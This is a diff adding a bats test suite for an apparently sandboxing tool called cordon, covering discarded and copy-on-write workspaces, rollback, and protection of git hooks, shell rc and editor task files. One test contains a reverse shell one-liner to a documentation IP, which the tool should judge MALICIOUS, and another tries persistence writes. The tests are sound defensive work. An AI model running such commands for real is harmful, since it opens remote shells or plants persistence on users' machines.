@@ -1,0 +1,238 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: Apache-2.0
+# --workspace cow and discard, --rollback-on-failure: what is kept, what is thrown away, and that it stays apart.
+# shellcheck disable=SC2016 # single quotes hold a script for an inner shell
+# shellcheck disable=SC2030,SC2031 # each test has a process of its own
+# shellcheck disable=SC2154 # bats sets stderr
+
+bats_require_minimum_version 1.5.0
+
+setup() {
+	CORDON=${CORDON:-$BATS_TEST_DIRNAME/../../build/cordon}
+	[ -x "$CORDON" ]
+	export CORDON_STATE_DIR=$BATS_TEST_TMPDIR/state CORDON_CONFIG_DIR=$BATS_TEST_TMPDIR/config
+	# Not below /tmp, of which a call has its own.
+	place=$(mktemp -d /var/tmp/cordon-cow-XXXXXX)
+	export HOME=$place/home
+	mkdir -p "$place/work/sub" "$HOME" "$CORDON_CONFIG_DIR"
+	cd "$place/work" || return
+	echo one >a
+	echo two >sub/b
+	echo '#!/bin/sh' >.gitignore
+	"$CORDON" run -q -b native -- true || skip "backend native is not available here"
+}
+
+teardown() {
+	cd / && rm -rf "$place"
+}
+
+# Everything that can differ, but for the times of access.
+listing() {
+	find "$place/work" -printf '%P %y %m %u %s %i %T@ %C@ %l\n' | sort
+	find "$place/work" -type f -exec sha256sum {} +
+}
+
+sets() {
+	find "$CORDON_STATE_DIR/sandboxes" -mindepth 1 -maxdepth 1 2>/dev/null | wc -l
+}
+
+change='echo new >n; echo more >>a; rm sub/b; mkdir -p x/y; echo z >x/y/z; ln -s a l; chmod 600 a'
+
+for_each_backend() {
+	local b
+	for b in native bwrap chroot; do
+		"$CORDON" run -q -b "$b" --workspace discard -- true 2>/dev/null || continue
+		echo "backend $b"
+		"$@" "$b" # not part of a condition: there a test that fails would be passed over
+	done
+}
+
+discards() {
+	listing >"$place/before"
+	run "$CORDON" run -q -b "$1" --workspace discard --report "$place/r.json" -- \
+		sh -c "$change; cat a; cat x/y/z; ls sub"
+	[ "$status" -eq 0 ]
+	[ "$output" = $'one\nmore\nz' ]
+	listing >"$place/after"
+	cmp "$place/before" "$place/after"
+	[ "$(sets)" -eq 0 ]
+	jq -e '[.changes[] | .op + " " + .path] | sort ==
+		["added l","added n","added x/y/z","deleted sub/b","modified a"]' "$place/r.json"
+	jq -e '.isolation.achieved.untracked | index("changes") | not' "$place/r.json"
+	jq -e 'has("sandbox") | not' "$place/r.json"
+}
+
+@test "discard: the call sees its changes, the host none of them, and nothing is left" {
+	# The control: the same without it.
+	"$CORDON" run -q -b native -- sh -c 'echo direct >a'
+	[ "$(cat a)" = direct ]
+	echo one >a
+	for_each_backend discards
+}
+
+@test "cow: the change set is kept, named, and the host is as it was" {
+	listing >"$place/before"
+	run --separate-stderr "$CORDON" run -b native --workspace cow --report "$place/r.json" -- sh -c "$change"
+	[ "$status" -eq 0 ]
+	listing >"$place/after"
+	cmp "$place/before" "$place/after"
+	id=$(jq -r .sandbox "$place/r.json")
+	[[ $id =~ ^sb-[0-9a-f]{12}$ ]]
+	[[ $stderr == *"$id"* && $stderr == *diff* && $stderr == *commit* && $stderr == *discard* ]]
+	[ -d "$CORDON_STATE_DIR/sandboxes/$id" ]
+	[ "$(stat -c %a "$CORDON_STATE_DIR/sandboxes/$id")" = 700 ]
+}
+
+@test "cow: a command that cannot be started leaves no change set" {
+	run -127 "$CORDON" run -q -b native --workspace cow -- no-such-command
+	[ "$(sets)" -eq 0 ]
+}
+
+rolls_back() {
+	listing >"$place/before"
+	run "$CORDON" run -q -b "$1" --rollback-on-failure --report "$place/r.json" -- sh -c "$change; exit 3"
+	[ "$status" -eq 3 ]
+	listing >"$place/after"
+	cmp "$place/before" "$place/after"
+	jq -e '.rolled_back and (.changes | length == 5)' "$place/r.json"
+	[ "$(sets)" -eq 0 ]
+}
+
+@test "rollback-on-failure: a command that fails leaves the workspace as it was" {
+	# The control: without the option it does not.
+	run "$CORDON" run -q -b native -- sh -c 'echo left >a; exit 3'
+	[ "$status" -eq 3 ]
+	[ "$(cat a)" = left ]
+	echo one >a
+	for_each_backend rolls_back
+}
+
+@test "rollback-on-failure: a command that succeeds leaves what it did" {
+	inode=$(stat -c %i .gitignore)
+	run "$CORDON" run -q -b native --rollback-on-failure --report "$place/r.json" -- sh -c "$change"
+	[ "$status" -eq 0 ]
+	[ "$(cat a)" = $'one\nmore' ]
+	[ "$(stat -c %a a)" = 600 ]
+	[ ! -e sub/b ] && [ -d sub ]
+	[ "$(cat x/y/z)" = z ]
+	[ "$(readlink l)" = a ]
+	[ "$(stat -c %i .gitignore)" = "$inode" ]
+	jq -e '.committed == 5' "$place/r.json"
+	[ "$(sets)" -eq 0 ]
+	[ -z "$(find . -name '.cordon-*')" ]
+}
+
+@test "rollback-on-failure: by signal, by time, and when it is judged MALICIOUS in dry run" {
+	run "$CORDON" run -q -b native --rollback-on-failure -- sh -c 'echo x >a; kill -9 $$'
+	[ "$status" -eq 137 ]
+	[ "$(cat a)" = one ]
+	run "$CORDON" run -q -b native --rollback-on-failure -t 1s --grace 100ms -- sh -c 'echo x >a; sleep 60'
+	[ "$status" -eq 124 ]
+	[ "$(cat a)" = one ]
+	run "$CORDON" run -q -b native --rollback-on-failure --dry-run --report "$place/r.json" -c 'echo x >a; : | bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 || true'
+	[ "$(jq -r .verdict.verdict "$place/r.json")" = MALICIOUS ]
+	[ "$(cat a)" = one ]
+}
+
+@test "what is outside the workspace is written through" {
+	mkdir "$place/other"
+	"$CORDON" run -q -b native --workspace discard -w "$place/other" -- sh -c "echo x >'$place/other/f'; echo y >g"
+	[ "$(cat "$place/other/f")" = x ]
+	[ ! -e g ]
+}
+
+@test "a writable grant inside the workspace is a part of the change set" {
+	"$CORDON" run -q -b native --workspace discard -w "$place/work/sub" -- sh -c 'echo x >sub/b; echo y >sub/c'
+	[ "$(cat sub/b)" = two ]
+	[ ! -e sub/c ]
+}
+
+guards() {
+	mkdir -p .git/hooks .git/objects .git/refs
+	echo 'ref: refs/heads/main' >.git/HEAD
+	echo '[core]' >.git/config
+	echo secret >denied
+	listing >"$place/before"
+	run "$CORDON" run -q -b "$1" --workspace discard -x "$place/work/denied" --report "$place/r.json" -- sh -c '
+		echo evil >.git/hooks/pre-commit && echo "hooks written"
+		echo evil >>.git/config && echo "config written"
+		perl -e "exit !rename q(.git), q(.git2)" && echo "git moved"
+		rm -rf .git/hooks; test -d .git/hooks || echo "hooks removed"
+		echo evil >.mcp.json && echo "mcp written"
+		echo evil >.bashrc && echo "bashrc written"
+		mkdir -p .vscode && echo x >.vscode/tasks.json && echo "tasks written"
+		cat denied && echo "denied read"
+		echo fine >.git/index && echo "index written"
+		true'
+	[[ $output == *"index written"* ]] # the control
+	for said in "hooks written" "config written" "git moved" "hooks removed" "mcp written" \
+		"bashrc written" "tasks written" "denied read" secret; do
+		[[ $output != *"$said"* ]]
+	done
+	jq -e '[.changes[].path] == [".git/index"]' "$place/r.json"
+	listing >"$place/after"
+	cmp "$place/before" "$place/after"
+	rm -rf .git denied
+}
+
+@test "what is protected or denied is so in a change set too, there or not" {
+	for_each_backend guards
+}
+
+@test "a state directory inside the workspace is refused with a reason" {
+	export CORDON_STATE_DIR=$place/work/state
+	run "$CORDON" run -b native --workspace discard -- true
+	[ "$status" -eq 125 ]
+	[[ $output == *CORDON_STATE_DIR* ]]
+	"$CORDON" run -q -b native -- true
+}
+
+@test "a killed cordon leaves a change set that the next command removes" {
+	"$CORDON" run -q -b native --workspace discard -- sh -c 'echo x >started-inside; echo ready >&2; sleep 100' 2>"$place/said" &
+	pid=$!
+	for _ in $(seq 200); do
+		grep -q ready "$place/said" && break
+		sleep 0.1
+	done
+	[ "$(sets)" -eq 1 ]
+	kill -9 $pid
+	wait $pid || true
+	[ "$(sets)" -eq 1 ]
+	for _ in $(seq 100); do
+		"$CORDON" run -q -b native -- true
+		[ "$(sets)" -eq 0 ] && break
+		sleep 0.1
+	done
+	[ "$(sets)" -eq 0 ]
+	[ ! -e started-inside ]
+}
+
+@test "a level without a file system of its own refuses" {
+	run "$CORDON" run -b noop -l none --workspace discard -- touch ran
+	[ "$status" -eq 125 ]
+	[ ! -e ran ]
+}
+
+@test "a changed file with secrets and a new repository are findings" {
+	"$CORDON" run -q -b native --workspace discard --report "$place/r.json" -- sh -c 'echo KEY=1 >.env; mkdir -p r/.git/objects r/.git/refs; echo "ref: x" >r/.git/HEAD'
+	jq -e '[.verdict.findings[].rule] | index("sensitive-file-changed")' "$place/r.json"
+	jq -e '[.verdict.findings[] | select(.rule == "new-git-directory")] | length == 1' "$place/r.json"
+}
+
+@test "as another user" {
+	[ "$(id -u)" -eq 0 ] || skip "needs root to become somebody else"
+	chmod 755 "$place"
+	chown -R 1000:1000 "$place"
+	mkdir -p "$place/bin"
+	cp "$CORDON" "$place/bin/cordon"
+	export CORDON_STATE_DIR=$place/state CORDON_CONFIG_DIR=$place/config
+	as() { setpriv --reuid=1000 --regid=1000 --clear-groups "$place/bin/cordon" "$@"; }
+	as run -q -b native -- true || skip "backend native is not available to users here"
+	as run -q -b native --workspace discard -- sh -c "$change"
+	[ "$(cat a)" = one ]
+	as run -q -b native --rollback-on-failure -- sh -c "$change; mkdir closed; echo in >closed/f; chmod 000 closed; echo r >ro; chmod 0 ro"
+	[ "$(cat a)" = $'one\nmore' ]
+	[ "$(stat -c %a closed)" = 0 ]
+	[ "$(cat closed/f)" = in ]
+	[ "$(stat -c '%a %u' ro)" = '0 1000' ]
+}
